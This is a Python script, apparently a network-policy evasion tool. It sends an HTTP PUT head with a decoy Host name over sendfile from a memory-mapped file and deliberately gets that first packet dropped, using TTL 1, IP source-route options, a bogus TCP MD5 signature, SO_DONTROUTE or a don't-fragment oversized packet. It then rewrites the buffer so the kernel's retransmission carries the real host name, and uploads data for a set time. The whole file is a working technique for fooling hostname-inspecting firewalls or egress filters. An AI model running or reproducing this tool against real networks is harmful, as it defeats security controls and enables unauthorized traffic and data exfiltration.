"""A program that sends a head with one name, which gets lost, and sends it again with another name.

usage: tcp_decoy.py ADDRESS PORT NAME DECOY-NAME WAY SECONDS (the names have the same length)

The head goes by sendfile(2) from a file that is mapped here. The kernel does not copy it: what is in the file when it
sends again is what the server gets. No capability is needed. WAY is why the first copy gets lost:

    ttl        a TTL or hop limit of 1, as IP_TTL and IPV6_UNICAST_HOPS allow
    options    a source route, as IP_OPTIONS allows; routers drop it
    signature  TCP_MD5SIG, which the server does not expect
    no-route   SO_DONTROUTE: the server is not on the Pod's own link
    mtu        it is larger than the path takes and must not be fragmented (IP_MTU_DISCOVER); needs a router that drops
               it without a word
    waits      none: the bytes change while the packet waits, for a server on the same node that does not read yet

Uploads for SECONDS once the server has answered.
"""

from __future__ import annotations

import ipaddress
import mmap
import os
import socket
import struct
import sys
import time

TCP_MD5SIG = 14
KEY = struct.Struct("=128sBBHI80s")
"""struct tcp_md5sig of linux/tcp.h: address, flags, prefix, length of the key, interface, key."""
LOOSE_ROUTE = 131
IP_MTU_DISCOVER, IPV6_MTU_DISCOVER = 10, 23
DO_NOT_FRAGMENT, MAY_FRAGMENT = 2, 0
"""IP_PMTUDISC_DO and IP_PMTUDISC_DONT of linux/in.h."""
HEAD_SIZE = 1400
"""Bytes: more than the path of ``mtu`` takes, and one packet."""
LOST_S = 0.1
"""Less than the kernel's first timeout of 200 ms."""


def lose(sock: socket.socket, way: str, *, on: bool) -> None:
    """Make what is sent from now on get lost, or not any more."""
    v6 = sock.family == socket.AF_INET6
    if way == "ttl":
        level, option = (socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS) if v6 else (socket.IPPROTO_IP, socket.IP_TTL)
        sock.setsockopt(level, option, 1 if on else 64)
    elif way == "options":
        route = bytes([LOOSE_ROUTE, 7, 4]) + ipaddress.ip_address("192.0.2.77").packed + b"\0"
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, route if on else b"")
    elif way == "signature":
        address, port = sock.getpeername()[:2]
        peer = struct.pack("=HH4s", socket.AF_INET, socket.htons(port), ipaddress.ip_address(address).packed)
        key = KEY.pack(peer.ljust(128, b"\0"), 0, 0, 3 if on else 0, 0, b"key")
        sock.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, key)
    elif way == "no-route":
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, on)
    elif way == "mtu":
        level, option = (socket.IPPROTO_IPV6, IPV6_MTU_DISCOVER) if v6 else (socket.IPPROTO_IP, IP_MTU_DISCOVER)
        sock.setsockopt(level, option, DO_NOT_FRAGMENT if on else MAY_FRAGMENT)


def head(name: str) -> bytes:
    text = f"PUT / HTTP/1.1\r\nHost: {name}\r\nContent-Length: 9999999999\r\nExpect: 100-continue\r\nX: "
    return text.encode().ljust(HEAD_SIZE, b"x") + b"\r\n\r\n"


def main() -> None:
    address, port, name, decoy, way, seconds = sys.argv[1:]
    first, second = head(decoy), head(name)
    assert len(first) == len(second)
    file = os.memfd_create("head")
    os.ftruncate(file, mmap.PAGESIZE)
    memory = mmap.mmap(file, mmap.PAGESIZE)
    memory[: len(first)] = first
    with socket.create_connection((address, int(port)), 10) as sock:
        lose(sock, way, on=True)
        os.sendfile(sock.fileno(), file, 0, len(first))
        time.sleep(LOST_S)  # that a packet is lost shows only in that nothing comes
        memory[: len(second)] = second
        lose(sock, way, on=False)
        assert sock.recv(100)
        until = time.monotonic() + float(seconds)
        while time.monotonic() < until:
            sock.sendall(bytes(16384))


if __name__ == "__main__":
    main()
